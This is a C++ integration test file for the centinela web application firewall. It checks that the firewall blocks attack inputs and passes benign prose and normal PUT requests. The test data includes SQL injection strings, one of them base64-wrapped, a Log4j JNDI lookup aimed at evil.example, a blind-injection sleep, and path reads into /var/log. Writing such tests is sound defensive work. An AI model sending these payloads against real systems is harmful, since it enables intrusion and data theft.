// What centinela's WAF adds to CRS, as a client sees it: a route's
// `waf: {mode: block}` with the default `waf.profile: api`, native rules and
// deep decoding blocks a base64-wrapped injection (the incident says which
// decoder revealed it) and a Log4j lookup, lets a forum post that discusses
// SQL through, and allows PUT; `waf.profile: crs` answers that PUT with 403
// as CRS's method policy does. A value that is code alone (a blind
// injection's `sleep 10`, an absolute path into /var/log, the tail of a
// select list) is blocked by the native rule that reads it; the same words
// in prose or an application's own path pass.
#include "waf_fixture.h"

namespace itest {
namespace {

class WafProfileTest : public WafTest {
 protected:
  HttpResponse send(const std::string& method, const std::string& target,
                    const std::string& json = {}) {
    HeaderList headers;
    if (!json.empty()) headers.emplace_back("Content-Type", "application/json");
    return http_request(port(), method, target, headers, json);
  }
};

TEST_F(WafProfileTest, Base64WrappedInjectionInJsonIsBlockedAndTheIncidentSaysDecoded) {
  ASSERT_TRUE(start_with("{mode: block}"));
  // base64 of "1' OR '1'='1' -- ": nothing CRS reads as SQL.
  HttpResponse blocked =
      send("POST", "/api/notes", R"({"id":7,"note":"MScgT1IgJzEnPScxJyAtLSA="})");
  ASSERT_EQ(blocked.status, 403) << blocked.body;
  EXPECT_EQ(origin_.request_count("/api/notes"), 0u);
  auto incident = wait_for_incident(incident_id_of(blocked));
  ASSERT_TRUE(incident);
  const JsonValue* findings = incident->get("findings");
  ASSERT_TRUE(findings);
  bool decoded_native = false;
  for (const JsonValue& f : findings->items) {
    decoded_native |= f.string_at("source") == "centinela" && f.string_at("decoded") == "base64" &&
                      f.string_at("target") == "ARGS:json.note";
  }
  EXPECT_TRUE(decoded_native) << incident_log_text();
}

TEST_F(WafProfileTest, ForumPostDiscussingSqlPasses) {
  ASSERT_TRUE(start_with("{mode: block}"));
  const std::string post =
      R"({"title":"Why does my query drop rows?","body":"I run\n```sql\nSELECT name, )"
      R"(email FROM users WHERE id = 1 OR id = 2;\nDELETE FROM sessions WHERE user_id = 3;)"
      R"(\n```\nand select returns fewer rows than I expect. Should I union both tables )"
      R"(or drop the index first?"})";
  HttpResponse response = send("POST", "/api/forum/posts", post);
  EXPECT_EQ(response.status, 200) << response.body;
  EXPECT_EQ(origin_.request_count("/api/forum/posts"), 1u);
}

TEST_F(WafProfileTest, Log4jLookupIsBlocked) {
  ASSERT_TRUE(start_with("{mode: block}"));
  HttpResponse blocked = http_request(port(), "GET", "/api/items",
                                      {{"X-Api-Version", "${jndi:ldap://evil.example/a}"}});
  ASSERT_EQ(blocked.status, 403) << blocked.body;
  auto incident = wait_for_incident(incident_id_of(blocked));
  ASSERT_TRUE(incident);
  EXPECT_TRUE(has_finding(*incident, 9700500)) << incident_log_text();
}

TEST_F(WafProfileTest, ValuesThatAreCodeAloneAreBlocked) {
  ASSERT_TRUE(start_with("{mode: block}"));
  struct Case {
    std::string method, target, json;
    std::uint32_t rule;
  };
  const Case cases[] = {
      {"GET", "/api/search?q=sleep%2010", "", 9700300},
      {"POST", "/api/files", R"({"id":3,"path":"/var/log/auth.log"})", 9700400},
      {"POST", "/api/report", R"({"id":3,"column":") AS total FROM"})", 9700100},
      {"GET", "/api/login?user=admin%27%20%23", "", 9700100},
      {"POST", "/api/files", R"({"id":3,"path":"\\\\10.0.0.1\\share\\shell.php"})", 9700400},
  };
  for (const Case& c : cases) {
    HttpResponse blocked = send(c.method, c.target, c.json);
    ASSERT_TRUE(is_waf_block(blocked)) << c.target << " " << c.json;
    auto incident = wait_for_incident(incident_id_of(blocked));
    ASSERT_TRUE(incident);
    EXPECT_TRUE(has_finding(*incident, c.rule)) << c.json << incident_log_text();
  }
  EXPECT_EQ(origin_.request_count("/api/search"), 0u);
  EXPECT_EQ(origin_.request_count("/api/files"), 0u);
}

TEST_F(WafProfileTest, TheSameWordsInProseAndAppPathsPass) {
  ASSERT_TRUE(start_with("{mode: block}"));
  HttpResponse response =
      send("POST", "/api/notes",
           R"({"note":"I sleep 8 hours a night, as for me, from now on","file":)"
           R"("/var/lib/app/data.db","backup":"/usr/local/bin/backup.sh","q":"sleep",)"
           R"("share":"\\\\fileserver\\share\\report.xlsx","title":"SOAP 1 '#"})");
  EXPECT_EQ(response.status, 200) << response.body;
  EXPECT_EQ(send("GET", "/api/search?q=sleep%20well").status, 200);
  EXPECT_EQ(origin_.request_count("/api/notes"), 1u);
}

TEST_F(WafProfileTest, PutIsAllowedInTheApiProfile) {
  ASSERT_TRUE(start_with("{mode: block}"));
  HttpResponse response = send("PUT", "/api/items/7", R"({"name":"blue mug","qty":2})");
  EXPECT_EQ(response.status, 200) << response.body;
  EXPECT_EQ(send("DELETE", "/api/items/7").status, 200);
}

TEST_F(WafProfileTest, PutIsRefusedInTheCrsProfile) {
  ASSERT_TRUE(start_with("{mode: block}", "waf: {profile: crs}\n"));
  HttpResponse response = send("PUT", "/api/items/7", R"({"name":"blue mug","qty":2})");
  EXPECT_EQ(response.status, 403) << response.body;
  EXPECT_EQ(origin_.request_count("/api/items/7"), 0u);
}

}  // namespace
}  // namespace itest
